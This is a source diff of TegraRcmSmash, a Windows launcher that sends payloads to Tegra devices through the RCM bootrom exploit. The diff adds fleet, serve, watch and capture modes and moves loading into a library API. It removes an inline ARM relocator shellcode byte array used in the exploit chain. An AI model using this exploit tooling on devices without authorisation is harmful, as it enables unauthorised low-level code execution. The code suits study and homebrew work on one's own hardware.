+		const TCHAR FLEET_ARGUMENT[] = TEXT("--fleet");
+		const TCHAR EMULATE_ARGUMENT[] = TEXT("--emulate=");
+		const TCHAR SERVE_ARGUMENT[] = TEXT("--serve");
+		const TCHAR LOWJITTER_ARGUMENT[] = TEXT("--lowjitter");
+		const TCHAR LOGLEVEL_ARGUMENT[] = TEXT("--loglevel=");
 
 		if (_tcsnicmp(currArg, RELOCATOR_ARGUMENT, array_countof(RELOCATOR_ARGUMENT)-1) == 0 ||
-			_tcsnicmp(currArg, INIFILE_ARGUMENT, array_countof(INIFILE_ARGUMENT)-1) == 0)
+			_tcsnicmp(currArg, INIFILE_ARGUMENT, array_countof(INIFILE_ARGUMENT)-1) == 0 ||
+			_tcsnicmp(currArg, PROFILE_ARGUMENT, array_countof(PROFILE_ARGUMENT)-1) == 0 ||
+			_tcsnicmp(currArg, MANIFEST_ARGUMENT, array_countof(MANIFEST_ARGUMENT)-1) == 0 ||
+			_tcsnicmp(currArg, ROUTES_ARGUMENT, array_countof(ROUTES_ARGUMENT)-1) == 0 ||
+			_tcsnicmp(currArg, METRICS_ARGUMENT, array_countof(METRICS_ARGUMENT)-1) == 0 ||
+			_tcsnicmp(currArg, TRACE_ARGUMENT, array_countof(TRACE_ARGUMENT)-1) == 0 ||
+			_tcsnicmp(currArg, HOTPLUG_SCRIPT_ARGUMENT, array_countof(HOTPLUG_SCRIPT_ARGUMENT)-1) == 0 ||
+			_tcsnicmp(currArg, CAPTURE_ARGUMENT, array_countof(CAPTURE_ARGUMENT)-1) == 0)
 		{
 			const TCHAR* matchedStr = nullptr;
 			size_t matchedLen = 0;
@@ -314,6 +597,41 @@ int _tmain(int argc, TCHAR* argv[])
 				matchedStr = INIFILE_ARGUMENT;
 				matchedLen = array_countof(INIFILE_ARGUMENT)-1;
 			}
+			else if (_tcsnicmp(currArg, PROFILE_ARGUMENT, array_countof(PROFILE_ARGUMENT)-1) == 0)
+			{
+				matchedStr = PROFILE_ARGUMENT;
+				matchedLen = array_countof(PROFILE_ARGUMENT)-1;
+			}
+			else if (_tcsnicmp(currArg, MANIFEST_ARGUMENT, array_countof(MANIFEST_ARGUMENT)-1) == 0)
+			{
+				matchedStr = MANIFEST_ARGUMENT;
+				matchedLen = array_countof(MANIFEST_ARGUMENT)-1;
+			}
+			else if (_tcsnicmp(currArg, ROUTES_ARGUMENT, array_countof(ROUTES_ARGUMENT)-1) == 0)
+			{
+				matchedStr = ROUTES_ARGUMENT;
+				matchedLen = array_countof(ROUTES_ARGUMENT)-1;
+			}
+			else if (_tcsnicmp(currArg, METRICS_ARGUMENT, array_countof(METRICS_ARGUMENT)-1) == 0)
+			{
+				matchedStr = METRICS_ARGUMENT;
+				matchedLen = array_countof(METRICS_ARGUMENT)-1;
+			}
+			else if (_tcsnicmp(currArg, TRACE_ARGUMENT, array_countof(TRACE_ARGUMENT)-1) == 0)
+			{
+				matchedStr = TRACE_ARGUMENT;
+				matchedLen = array_countof(TRACE_ARGUMENT)-1;
+			}
+			else if (_tcsnicmp(currArg, HOTPLUG_SCRIPT_ARGUMENT, array_countof(HOTPLUG_SCRIPT_ARGUMENT)-1) == 0)
+			{
+				matchedStr = HOTPLUG_SCRIPT_ARGUMENT;
+				matchedLen = array_countof(HOTPLUG_SCRIPT_ARGUMENT)-1;
+			}
+			else if (_tcsnicmp(currArg, CAPTURE_ARGUMENT, array_countof(CAPTURE_ARGUMENT)-1) == 0)
+			{
+				matchedStr = CAPTURE_ARGUMENT;
+				matchedLen = array_countof(CAPTURE_ARGUMENT)-1;
+			}
 
 			const TCHAR* currFilename = nullptr;
 			if (currArg[matchedLen] == '=')
@@ -332,6 +650,23 @@ int _tmain(int argc, TCHAR* argv[])
 				mezzoFilename = currFilename;
 			else if (matchedStr == INIFILE_ARGUMENT)
 				iniFilename = currFilename;
+			else if (matchedStr == PROFILE_ARGUMENT)
+				profileFilename = currFilename;
+			else if (matchedStr == MANIFEST_ARGUMENT)
+				manifestFilename = currFilename;
+			else if (matchedStr == ROUTES_ARGUMENT)
+				routesFilename = currFilename;
+			else if (matchedStr == METRICS_ARGUMENT)
+				metricsFilename = currFilename;
+			else if (matchedStr == TRACE_ARGUMENT)
+				traceFilename = currFilename;
+			else if (matchedStr == HOTPLUG_SCRIPT_ARGUMENT)
+				hotplugScriptFilename = currFilename;
+			else if (matchedStr == CAPTURE_ARGUMENT)
+			{
+				captureFilename = currFilename;
+				readbackUsb = true;
+			}
 		}
 		else if (_tcsnicmp(currArg, VENDOR_ARGUMENT, array_countof(VENDOR_ARGUMENT)-1) == 0 ||
 				_tcsnicmp(currArg, PRODUCT_ARGUMENT, array_countof(PRODUCT_ARGUMENT)-1) == 0)
@@ -382,6 +717,58 @@ int _tmain(int argc, TCHAR* argv[])
 		{
 			readbackUsb = true;
 		}
+		else if (_tcsnicmp(currArg, WATCH_ARGUMENT, array_countof(WATCH_ARGUMENT)) == 0)
+		{
+			watchMode = true;
+		}
+		else if (_tcsnicmp(currArg, FLEET_ARGUMENT, array_countof(FLEET_ARGUMENT)-1) == 0)
+		{
+			const size_t matchedLen = array_countof(FLEET_ARGUMENT)-1;
+			if (currArg[matchedLen] == '=')
+				fleetConcurrency = _tcstoul(&currArg[matchedLen+1], nullptr, 0);
+			else if (currArg[matchedLen] != 0)
+				return PrintUsage();
+
+			fleetMode = true;
+		}
+		else if (_tcsnicmp(currArg, EMULATE_ARGUMENT, array_countof(EMULATE_ARGUMENT)-1) == 0)
+		{
+			numEmulated = _tcstoul(&currArg[array_countof(EMULATE_ARGUMENT)-1], nullptr, 0);
+			if (numEmulated == 0)
+				return PrintUsage();
+		}
+		else if (_tcsnicmp(currArg, SERVE_ARGUMENT, array_countof(SERVE_ARGUMENT)-1) == 0)
+		{
+			const size_t matchedLen = array_countof(SERVE_ARGUMENT)-1;
+			if (currArg[matchedLen] == '=')
+				servePipeName = &currArg[matchedLen+1];
+			else if (currArg[matchedLen] == 0)
+				servePipeName = TEXT("\\\\.\\pipe\\TegraRcmSmash");
+			else
+				return PrintUsage();
+		}
+		else if (_tcsnicmp(currArg, LOWJITTER_ARGUMENT, array_countof(LOWJITTER_ARGUMENT)-1) == 0)
+		{
+			const size_t matchedLen = array_countof(LOWJITTER_ARGUMENT)-1;
+			if (currArg[matchedLen] == '=')
+				lowJitter.cpuIndex = (int)_tcstoul(&currArg[matchedLen+1], nullptr, 0);
+			else if (currArg[matchedLen] != 0)
+				return PrintUsage();
+
+			lowJitter.enabled = true;
+		}
+		else if (_tcsnicmp(currArg, LOGLEVEL_ARGUMENT, array_countof(LOGLEVEL_ARGUMENT)-1) == 0)
+		{
+			const TCHAR* levelStr = &currArg[array_countof(LOGLEVEL_ARGUMENT)-1];
+			if (_tcsicmp(levelStr, TEXT("error")) == 0)
+				logLevel = LogLevel::Error;
+			else if (_tcsicmp(levelStr, TEXT("info")) == 0)
+				logLevel = LogLevel::Info;
+			else if (_tcsicmp(levelStr, TEXT("verbose")) == 0)
+				logLevel = LogLevel::Verbose;
+			else
+				return PrintUsage();
+		}
 		else if (currArg[0] == '-') //unknown option
 		{
 			_ftprintf(stderr, TEXT("Unknown option %Ts\n"), currArg);
@@ -392,109 +779,24 @@ int _tmain(int argc, TCHAR* argv[])
 			if (inputFilename == nullptr)
 				inputFilename = currArg;
 			else
-			{
-				auto colonPos = _tcschr(currArg, ':');
-				if (colonPos == nullptr)
-				{
-					_ftprintf(stderr, TEXT("No colon separator in additional data argument '%Ts'\n"), currArg);
-					return PrintUsage();
-				}
+				dataArguments.push_back(currArg);
+		}
+	}
 
-				*colonPos = 0;
-				const size_t leftPartLen = colonPos-currArg;
-				const TCHAR* leftPart = currArg;
-				const TCHAR* rightPart = colonPos+1;
+	// sessions print through the log writer thread from here on, the guard writes out what's left before main returns
+	AsyncLogger::instance().start(logLevel);
+	auto logGrd = MakeScopeGuard([]() { AsyncLogger::instance().stop(); });
 
-				if (leftPartLen >= array_countof(HEXA_PREFIX) &&
-					_tcsnicmp(leftPart, HEXA_PREFIX, array_countof(HEXA_PREFIX)-1) == 0)
-				{
-					leftPart += array_countof(HEXA_PREFIX)-1;
-
-					LoadDataItem newItem;
-					wchar_t* endPos = nullptr;
-					if (sizeof(newItem.address) == sizeof(unsigned long))
-						newItem.address = _tcstoul(leftPart, &endPos, 0x10);
-					else
-						newItem.address = (size_t)_tcstoull(leftPart, &endPos, 0x10);
-
-					if (endPos == nullptr || endPos == leftPart)
-					{
-						_ftprintf(stderr, TEXT("Invalid load address '%Ts' in additional data argument '%Ts'\n"), leftPart, currArg);
-						return PrintUsage();
-					}
-
-					auto it = std::find_if(loadData.cbegin(), loadData.cend(), [&newItem](const LoadDataItem& itm) {
-						return itm.address == newItem.address;
-					});
-
-					if (it != loadData.cbegin())
-					{
-						_ftprintf(stderr, TEXT("Load address 0x%08llx already defined with filename '%Ts'\n"), (u64)it->address, it->filename.c_str());
-						return PrintUsage();
-					}
-
-					newItem.filename = rightPart;
-					loadData.emplace_back(std::move(newItem));
-				}
-				else
-				{
-					std::string convAscii; convAscii.reserve(_tcslen(leftPart));
-					for (size_t strPos=0; strPos<leftPartLen; strPos++) 
-						convAscii.push_back((char)leftPart[strPos]);
-
-					if (strcmp(convAscii.c_str(), "BOOT") == 0)
-					{
-						if (bootData.size() > 0)
-						{
-							if (bootData[0].filename.length() > 0)
-								_ftprintf(stderr, TEXT("Load parameter %hs already defined with value '%Ts'\n"), convAscii.c_str(), bootData[0].filename.c_str());
-							else
-								_ftprintf(stderr, TEXT("Load parameter %hs already defined with value 0x%08llx\n"), convAscii.c_str(), (u64)bootData[0].pc);
-
-							return PrintUsage();
-						}
-
-						bootData.resize(1, BootDataItem());
-						if (_tcsnicmp(rightPart, HEXA_PREFIX, array_countof(HEXA_PREFIX)-1) == 0)
-						{
-							rightPart += array_countof(HEXA_PREFIX)-1;
-
-							wchar_t* endPos = nullptr;
-							if (sizeof(bootData[0].pc) == sizeof(unsigned long))
-								bootData[0].pc = _tcstoul(rightPart, &endPos, 0x10);
-							else
-								bootData[0].pc = (size_t)_tcstoull(rightPart, &endPos, 0x10);
-
-							if (endPos == nullptr || endPos == rightPart)
-							{
-								_ftprintf(stderr, TEXT("Invalid boot address '%Ts' specified\n"), rightPart);
-								return PrintUsage();
-							}
-						}
-						else
-							bootData[0].filename = rightPart;
-					}
-					else
-					{
-						LoadDataItem newItem;
-						newItem.name = std::move(convAscii);
-
-						auto it = std::find_if(loadData.cbegin(), loadData.cend(), [&newItem](const LoadDataItem& itm) {
-							return stricmp(itm.name.c_str(), newItem.name.c_str()) == 0;
-						});
-
-						if (it != loadData.cbegin())
-						{
-							_ftprintf(stderr, TEXT("Load parameter %hs already defined with value '%Ts'\n"), it->name.c_str(), it->filename.c_str());
-							return PrintUsage();
-						}
-
-						newItem.filename = rightPart;
-						loadData.emplace_back(std::move(newItem));
-					}
-				}
-			}
-		}
+	// the trace covers everything from here on, the argument parse that found it gets added after the fact
+	auto traceGrd = MakeScopeGuard([traceFilename]()
+	{
+		if (traceFilename != nullptr)
+			TraceWriter::instance().stop();
+	});
+	if (traceFilename != nullptr)
+	{
+		TraceWriter::instance().start(traceFilename, argsStart);
+		TraceWriter::instance().addSpan("host", "parse_arguments", argsStart, std::chrono::steady_clock::now());
 	}
 
 	//print program name and version
@@ -527,202 +829,75 @@ int _tmain(int argc, TCHAR* argv[])
 #else
 		bitnessStr = TEXT("64bit");
 #endif
-		_tprintf(TEXT("TegraRcmSmash (%Ts) %Ts by rajkosto\n"), bitnessStr, versionInfoStr);
+		LogPrint(LogLevel::Info, TEXT("TegraRcmSmash (%Ts) %Ts by rajkosto\n"), bitnessStr, versionInfoStr);
 	}
 
 	//check all arguments
 	if (deviceVid == 0 || deviceVid >= 0xFFFF)
 	{
-		_ftprintf(stderr, TEXT("Invalid USB VID specified\n"));
+		LogPrint(LogLevel::Error, TEXT("Invalid USB VID specified\n"));
 		return PrintUsage();
 	}
 	if (devicePid == 0 || devicePid >= 0xFFFF)
 	{
-		_ftprintf(stderr, TEXT("Invalid USB PID specified\n"));
+		LogPrint(LogLevel::Error, TEXT("Invalid USB PID specified\n"));
 		return PrintUsage();
 	}
-	if (inputFilename == nullptr || _tcslen(inputFilename) == 0)
+	if (servePipeName != nullptr && (inputFilename != nullptr || watchMode || fleetMode || routesFilename != nullptr))
 	{
-		_ftprintf(stderr, TEXT("Please specify input filename\n"));
+		LogPrint(LogLevel::Error, TEXT("--serve takes its payloads from the jobs, it can't be combined with an input file, --watch, --fleet or --routes\n"));
 		return PrintUsage();
 	}
-
-	auto ReadFileToBuf = [](ByteVector& outBuf, const TCHAR* fileType, const TCHAR* inputFilename, size_t offset, size_t maxSize, bool silent) -> int
+	if (servePipeName == nullptr && (inputFilename == nullptr || _tcslen(inputFilename) == 0))
 	{
-		std::ifstream inputFile(inputFilename, std::ios::binary);
-		if (!inputFile.is_open())
-		{
-			if (!silent)
-				_ftprintf(stderr, TEXT("Couldn't open %Ts file '%Ts' for reading\n"), fileType, inputFilename);
-
-			return -2;
-		}
-
-		inputFile.seekg(0, std::ios::end);
-		const auto inputSize = (size_t)inputFile.tellg();
-		inputFile.seekg(offset, std::ios::beg);
-
-		if (inputSize > offset)
-			outBuf.resize(inputSize-offset);
-		else
-			outBuf.resize(0);
-
-		if (maxSize != 0 && maxSize < outBuf.size())
-			outBuf.resize(maxSize);
-
-		if (outBuf.size() > 0)
-		{
-			inputFile.read((char*)&outBuf[0], outBuf.size());
-			const auto bytesRead = inputFile.gcount();
-			if (bytesRead < (std::streamsize)outBuf.size())
-			{
-				_ftprintf(stderr, TEXT("Error reading %Ts file '%Ts' (only %llu out of %llu bytes read)\n"), fileType, inputFilename, (u64)bytesRead, (u64)outBuf.size());
-				return -2;
-			}
-		}
-
-		return 0;
-	};
-
-	if (iniFilename != nullptr)
+		LogPrint(LogLevel::Error, TEXT("Please specify input filename\n"));
+		return PrintUsage();
+	}
+	if (captureFilename != nullptr && (fleetMode || servePipeName != nullptr))
 	{
-		ByteVector iniBuf;
-		auto iniReadRes = ReadFileToBuf(iniBuf, TEXT("ini"), iniFilename, 0, 0, false);
-		if (iniReadRes)
-			return iniReadRes;
-
-		if (iniBuf.size() > 0)
-		{
-			auto parsedInfo = parse_memloader_ini((char*)&iniBuf[0], (int)iniBuf.size(), malloc, WrappedPrintToErr);
-			auto infoGuard = MakeScopeGuard([&parsedInfo]() { free_memloader_info(&parsedInfo, free); });
-
-			if (parsedInfo.loads != nullptr)
-			{
-				WinString fileBaseDir;
-				{
-					TCHAR absDirPath[2048];
-					absDirPath[0] = 0;
-
-					TCHAR* filePart = nullptr;
-					size_t pathLen = GetFullPathName(iniFilename, (unsigned int)array_countof(absDirPath)-1, absDirPath, &filePart);
-					if (filePart != nullptr)
-					{
-						*filePart = 0;
-						pathLen = filePart-absDirPath;
-					}
-
-					fileBaseDir = WinString(absDirPath, pathLen);
-				}
-
-				for (auto currLoadNode = parsedInfo.loads; currLoadNode != nullptr; currLoadNode=currLoadNode->next)
-				{
-					const auto& currLoad = currLoadNode->curr;
-
-					LoadDataItem newItem;
-					newItem.name = currLoad.sectname;
-					newItem.offset = currLoad.skip;
-					newItem.maxCount = currLoad.count;
-					newItem.address = currLoad.dst;
-					
-					if (sizeof(TCHAR) == sizeof(char))
-						newItem.filename = WinString(currLoad.filename, currLoad.filename+strlen(currLoad.filename));
-					else
-					{
-						TCHAR convFilename[2048];
-						convFilename[0] = 0;
-
-						const auto numChars = MultiByteToWideChar(CP_UTF8, 0, currLoad.filename, -1, convFilename, (int)array_countof(convFilename)-1);
-						if (numChars > 0)
-							newItem.filename = WinString(convFilename, numChars-1);
-					}
-
-					//make it absolute
-					if (fileBaseDir.length() > 1)
-					{
-						wchar_t wideFilename[2048];
-						wideFilename[0] = 0;
-
-						const wchar_t* combinedPath = PathCombine(wideFilename, fileBaseDir.c_str(), newItem.filename.c_str());
-						newItem.filename = combinedPath;
-					}
-
-					loadData.emplace_back(std::move(newItem));
-				}
-			}
-
-			for (auto currBootNode = parsedInfo.copies; currBootNode != nullptr; currBootNode=currBootNode->next)
-			{
-				const auto& currCopy = currBootNode->curr;
-
-				CopyDataItem newItem;
-				newItem.name = currCopy.sectname;
-				newItem.copyType = currCopy.compType;
-				newItem.srcaddr = currCopy.src;
-				newItem.srclen = currCopy.srclen;
-				newItem.dstaddr = currCopy.dst;
-				newItem.dstlen = currCopy.dstlen;
-
-				copyData.emplace_back(std::move(newItem));
-			}
-
-			for (auto currBootNode = parsedInfo.boots; currBootNode != nullptr; currBootNode=currBootNode->next)
-			{
-				const auto& currBoot = currBootNode->curr;
-
-				BootDataItem newItem;
-				newItem.name = currBoot.sectname;
-				newItem.pc = currBoot.pc;
-
-				bootData.emplace_back(std::move(newItem));
-			}
-		}		
+		LogPrint(LogLevel::Error, TEXT("--capture writes one device's output to one file, it can't be combined with --fleet or --serve\n"));
+		return PrintUsage();
 	}
-
-	std::sort(loadData.begin(), loadData.end(), [](const LoadDataItem& left, const LoadDataItem& right) 
+	if (lowJitter.enabled && (fleetMode || servePipeName != nullptr))
 	{
-		if (left.name.length() != 0 && right.name.length() == 0) //named go first
-			return true;
-		if (left.name.length() == 0 && right.name.length() != 0)
-			return false;
-
-		if (left.address != 0 && right.address != 0)
-			return left.address < right.address;
-		else
-			return (strcmp(left.name.c_str(), right.name.c_str()) < 0);
-	});
+		LogPrint(LogLevel::Error, TEXT("--lowjitter pins one session at a time, it can't be combined with --fleet or --serve\n"));
+		return PrintUsage();
+	}
+	if (numEmulated > 0 && !fleetMode)
+	{
+		LogPrint(LogLevel::Error, TEXT("--emulate stands in for the devices --fleet would find, it needs --fleet\n"));
+		return PrintUsage();
+	}
+	if (watchMode && routesFilename != nullptr)
+	{
+		LogPrint(LogLevel::Error, TEXT("--routes can't be combined with --watch\n"));
+		return PrintUsage();
+	}
 
-	//load file contents
-	for (auto& currData : loadData)
+	// everything below loads, parses and runs sessions through the same C API librcmsmash exports
+	auto smashCtx = rcmsmash_create();
+	if (smashCtx == nullptr)
 	{
-		auto readFileRes = ReadFileToBuf(currData.dataBytes, TEXT("data"), currData.filename.c_str(), currData.offset, currData.maxCount, false);
-		if (readFileRes != 0)
-			return readFileRes;
+		LogPrint(LogLevel::Error, TEXT("Couldn't allocate the smash context\n"));
+		return -1;
 	}
+	auto smashGrd = MakeScopeGuard([smashCtx]() { rcmsmash_destroy(smashCtx); });
 
-	//populate address for BOOT if necessary
-	for (auto& currBoot : bootData)
+	for (auto currArg : dataArguments)
 	{
-		if (currBoot.filename.length() == 0)
-			continue;
+		if (rcmsmash_add_argument(smashCtx, ToUtf8(currArg).c_str()) != 0)
+			return PrintUsage();
+	}
 
-		bool foundAddress = false;
-		for (const auto& otherData : loadData)
-		{
-			if (otherData.name.length() == 0 && _tcsicmp(currBoot.filename.c_str(), otherData.filename.c_str()) == 0)
-			{
-				currBoot.pc = otherData.address;
-				foundAddress = true;
-				break;
-			}
-		}
+	// The section requests recorded during a previous boot decide what gets loaded first and which ranges stay locked in memory
+	auto profileGuard = MakeScopeGuard([smashCtx, profileFilename]()
+	{
+		if (profileFilename != nullptr)
+			rcmsmash_save_access_profile(smashCtx);
+	});
+	if (profileFilename != nullptr)
+		rcmsmash_set_access_profile(smashCtx, ToUtf8(profileFilename).c_str());
 
-		if (!foundAddress)
-		{
-			_ftprintf(stderr, TEXT("No load address defined for filename '%Ts' (required for setting BOOT)\n"), currBoot.filename.c_str());
-			return -1;
-		}
-	}
-	
 	//intentional ptr comparison, if user supplied their own filename always read it
 	auto usingBuiltinMezzo = (mezzoFilename == DEFAULT_MEZZO_FILENAME);
 	bool usingNoMezzo = false;
@@ -739,20 +914,7 @@ int _tmain(int argc, TCHAR* argv[])
 		if (readFileRes != 0)
 		{
 			if (usingBuiltinMezzo)
-			{
-				const byte BUILTIN_INTERMEZZO[] =
-				{
-					0x44, 0x00, 0x9F, 0xE5, 0x01, 0x11, 0xA0, 0xE3, 0x40, 0x20, 0x9F, 0xE5, 0x00, 0x20, 0x42, 0xE0,
-					0x08, 0x00, 0x00, 0xEB, 0x01, 0x01, 0xA0, 0xE3, 0x10, 0xFF, 0x2F, 0xE1, 0x00, 0x00, 0xA0, 0xE1,
-					0x2C, 0x00, 0x9F, 0xE5, 0x2C, 0x10, 0x9F, 0xE5, 0x02, 0x28, 0xA0, 0xE3, 0x01, 0x00, 0x00, 0xEB,
-					0x20, 0x00, 0x9F, 0xE5, 0x10, 0xFF, 0x2F, 0xE1, 0x04, 0x30, 0x90, 0xE4, 0x04, 0x30, 0x81, 0xE4,
-					0x04, 0x20, 0x52, 0xE2, 0xFB, 0xFF, 0xFF, 0x1A, 0x1E, 0xFF, 0x2F, 0xE1, 0x20, 0xF0, 0x01, 0x40,
-					0x5C, 0xF0, 0x01, 0x40, 0x00, 0x00, 0x02, 0x40, 0x00, 0x00, 0x01, 0x40
-				};
-
-				mezzoBuf.resize(sizeof(BUILTIN_INTERMEZZO));
-				memcpy(&mezzoBuf[0], BUILTIN_INTERMEZZO, mezzoBuf.size());
-			}
+				GetBuiltinRelocator(mezzoBuf);
 			else
 				return readFileRes;
 		}
@@ -760,18 +922,106 @@ int _tmain(int argc, TCHAR* argv[])
 			usingBuiltinMezzo = false;
 	}
 
-	ByteVector userFileBuf;
-	auto readFileRes = ReadFileToBuf(userFileBuf, TEXT("payload"), inputFilename, 0, 0, false);
+	if (servePipeName != nullptr)
+		return RunServeMode(servePipeName, mezzoBuf, readbackUsb, metricsFilename);
+
+	// exported on a timer while running and once more on the way out, so even a single boot leaves its numbers behind
+	if (metricsFilename != nullptr)
+	{
+		const auto exportRes = rcmsmash_set_metrics_file(smashCtx, ToUtf8(metricsFilename).c_str(), METRICS_INTERVAL_MS);
+		if (exportRes != 0)
+			return exportRes;
+	}
+
+	// a relocator of no bytes at all (rather than none given) is how the C API is told not to use one
+	if (usingNoMezzo)
+		rcmsmash_set_relocator(smashCtx, "", 0);
+	else
+		rcmsmash_set_relocator(smashCtx, mezzoBuf.data(), mezzoBuf.size());
+
+	rcmsmash_set_readback(smashCtx, readbackUsb ? 1 : 0);
+	if (captureFilename != nullptr)
+		rcmsmash_set_capture_file(smashCtx, ToUtf8(captureFilename).c_str());
+	rcmsmash_set_low_jitter(smashCtx, lowJitter.enabled ? 1 : 0, lowJitter.cpuIndex);
+
+	if (watchMode)
+	{
+		WatchInputs watchInputs;
+		watchInputs.inputFilename = inputFilename;
+		watchInputs.mezzoFilename = usingBuiltinMezzo ? nullptr : mezzoFilename;
+		watchInputs.iniFilename = iniFilename;
+		watchInputs.dataArguments = std::move(dataArguments);
+
+		return RunWatchMode(watchInputs, smashCtx);
+	}
+
+	// everything gets loaded before looking for devices, sessions use it as it is from then on
+	rcmsmash_set_reload_files(smashCtx, 0);
+
+	// A manifest compiled from the same ini and arguments replaces the ini parse, path resolution and sorting below
+	const auto iniUtf8 = (iniFilename != nullptr) ? ToUtf8(iniFilename) : std::string();
+	const char* const iniArg = (iniFilename != nullptr) ? iniUtf8.c_str() : nullptr;
+	const auto manifestUtf8 = (manifestFilename != nullptr) ? ToUtf8(manifestFilename) : std::string();
+	bool usingManifest = false;
+	u32 argsHash = 0;
+	if (manifestFilename != nullptr)
+	{
+		Crc32c argsCrc;
+		for (int i=1; i<argc; i++)
+			argsCrc.update((const u8*)argv[i], (_tcslen(argv[i])+1)*sizeof(TCHAR));
+
+		argsHash = argsCrc.value();
+		usingManifest = (rcmsmash_load_manifest(smashCtx, manifestUtf8.c_str(), iniArg, argsHash) > 0);
+		if (usingManifest)
+			LogPrint(LogLevel::Info, TEXT("Using boot manifest '%Ts'\n"), manifestFilename);
+	}
+
+	if (iniFilename != nullptr && !usingManifest)
+	{
+		const auto parseRes = rcmsmash_load_ini(smashCtx, iniArg);
+		if (parseRes != 0)
+			return parseRes;
+	}
+
+	if (manifestFilename != nullptr && !usingManifest)
+	{
+		const auto manifestRes = rcmsmash_save_manifest(smashCtx, manifestUtf8.c_str(), iniArg, argsHash);
+		if (manifestRes == 0)
+			LogPrint(LogLevel::Info, TEXT("Compiled boot manifest '%Ts'\n"), manifestFilename);
+		else if (manifestRes == -2)
+			LogPrint(LogLevel::Error, TEXT("Couldn't write boot manifest '%Ts'\n"), manifestFilename);
+		else
+			return manifestRes;
+	}
+
+	auto readFileRes = rcmsmash_set_payload_file(smashCtx, ToUtf8(inputFilename).c_str());
 	if (readFileRes != 0)
 		return readFileRes;
 
+	// every routed profile gets loaded and built now, the command line inputs stay the default for ids the routes don't cover
+	if (routesFilename != nullptr)
+	{
+		const auto routesRes = rcmsmash_load_routes(smashCtx, ToUtf8(routesFilename).c_str());
+		if (routesRes < 0)
+			return routesRes;
+	}
+
+	const auto prepareRes = rcmsmash_prepare(smashCtx);
+	if (prepareRes != 0)
+		return prepareRes;
+
+	if (fleetMode)
+		return RunFleetMode(smashCtx, fleetConcurrency, numEmulated);
+
 	KLST_DEVINFO_HANDLE deviceInfo = nullptr;
+	HotplugEvent pluggedEvent;
 	
+	TraceSpan enumSpan("host", "enumerate");
 	KLST_HANDLE deviceList = nullptr;
 	if (!LstK_Init(&deviceList, KLST_FLAG_NONE))
 	{
 		const auto errorCode = GetLastError();
-		_ftprintf(stderr, TEXT("Got win32 error %u trying to list USB devices\n"), errorCode);
+		LogPrint(LogLevel::Error, TEXT("Got win32 error %u trying to list USB devices\n"), errorCode);
 		return -3;
 	}
 	auto lstKgrd = MakeScopeGuard([&deviceList]()
@@ -786,60 +1036,53 @@ int _tmain(int argc, TCHAR* argv[])
 	// Get the number of devices contained in the device list.
 	UINT deviceCount = 0;
 	LstK_Count(deviceList, &deviceCount);
-	if (deviceCount == 0 || LstK_FindByVidPid(deviceList, deviceVid, devicePid, &deviceInfo) == FALSE)
+	const bool foundDevice = (deviceCount > 0 && LstK_FindByVidPid(deviceList, deviceVid, devicePid, &deviceInfo) != FALSE);
+	enumSpan.end();
+	if (!foundDevice)
 	{
 		if (!waitForDevice)
 		{
-			_ftprintf(stderr, TEXT("No TegraRCM devices found and -w option not specified\n"));
+			LogPrint(LogLevel::Error, TEXT("No TegraRCM devices found and -w option not specified\n"));
 			return -3;
 		}
 
-		_tprintf(TEXT("Wanted device not connected yet, waiting...\n"));
+		LogPrint(LogLevel::Info, TEXT("Wanted device not connected yet, waiting...\n"));
 		lstKgrd.run();
 
-		KHOT_HANDLE hotHandle = nullptr;
-		KHOT_PARAMS hotParams;
-
-		memset(&hotParams, 0, sizeof(hotParams));
-		hotParams.OnHotPlug = HotPlugEventCallback;
-		hotParams.Flags = KHOT_FLAG_NONE;
-
-		memset(&pluggedInDevice, 0, sizeof(pluggedInDevice));
-		gotDeviceEvent = CreateEvent(nullptr, TRUE, FALSE, nullptr);
+		CreateHotplugEvents();
 		finishedUpEvent = CreateEvent(nullptr, TRUE, FALSE, nullptr);
-		sprintf_s(hotParams.PatternMatch.DeviceID, "*VID_%04X&PID_%04X*", deviceVid, devicePid);
-		_tprintf(TEXT("Looking for devices matching the pattern %s\n"), 
-			WinString(std::begin(hotParams.PatternMatch.DeviceID), std::end(hotParams.PatternMatch.DeviceID)).c_str());
 
-		// Initializes a new HotK handle.
-		if (!HotK_Init(&hotHandle, &hotParams))
-		{
-			const auto errorCode = GetLastError();
-			_ftprintf(stderr,TEXT("Hotplug listener init failed with win32 error %u\n"), errorCode);
-			return -4;
-		}
-		auto hotKgrd = MakeScopeGuard([&hotHandle]()
+		std::unique_ptr<HotplugSource> hotplugSource;
+		const auto hotplugRes = StartHotplugSource(hotplugSource, false);
+		if (hotplugRes != 0)
+			return hotplugRes;
+
+		bool gotDevice = false;
+		if (SetConsoleCtrlHandler(ConsoleSignalHandler, TRUE))
 		{
-			if (hotHandle != nullptr)
+			HANDLE waitHandles[] = { cancelEvent.get(), gotDeviceEvent.get() };
+			while (!gotDevice && WaitForMultipleObjects((DWORD)array_countof(waitHandles), waitHandles, FALSE, INFINITE) == WAIT_OBJECT_0+1)
 			{
-				HotK_Free(hotHandle);
-				hotHandle = nullptr;
+				ResetEvent(gotDeviceEvent.get());
+				while (!gotDevice && PopHotplugEvent(pluggedEvent))
+				{
+					if (pluggedEvent.type == HotplugEvent::Type::Attached && pluggedEvent.deviceInfo.Connected == TRUE)
+						gotDevice = true;
+				}
 			}
-		});
-
-		if (SetConsoleCtrlHandler(ConsoleSignalHandler, TRUE))
-			WaitForSingleObject(gotDeviceEvent.get(), INFINITE);
+		}
 
 		gotDeviceEvent = WinHandle();
-		if (pluggedInDevice.Common.Vid == deviceVid && pluggedInDevice.Common.Pid == devicePid && pluggedInDevice.Connected == TRUE) //got the device after waiting
+		if (gotDevice) //got the device after waiting
 		{
+			ReportHotplugDispatch(pluggedEvent);
 			finishedUpEvent = WinHandle();
-			deviceInfo = &pluggedInDevice;
+			deviceInfo = &pluggedEvent.deviceInfo;
 			SetConsoleCtrlHandler(ConsoleSignalHandler, FALSE);
 		}
 		else
 		{
-			_tprintf(TEXT("Exiting due to user cancellation\n"));
+			LogPrint(LogLevel::Info, TEXT("Exiting due to user cancellation\n"));
 			SetEvent(finishedUpEvent.get());			
 			return -5;
 		}
@@ -847,416 +1090,32 @@ int _tmain(int argc, TCHAR* argv[])
 
 	if (deviceInfo != nullptr)
 	{
-		if (deviceInfo->DriverID != KUSB_DRVID_LIBUSBK)
+		// Reload the user-supplied relocator and binary in case they changed while waiting
+		if (deviceInfo == &pluggedEvent.deviceInfo)
 		{
-			_tprintf(TEXT("The selected device path %hs with VID_%04X&PID_%04x isn't using the libusbK driver\n"), 
-				deviceInfo->DevicePath, deviceInfo->Common.Vid, deviceInfo->Common.Pid);
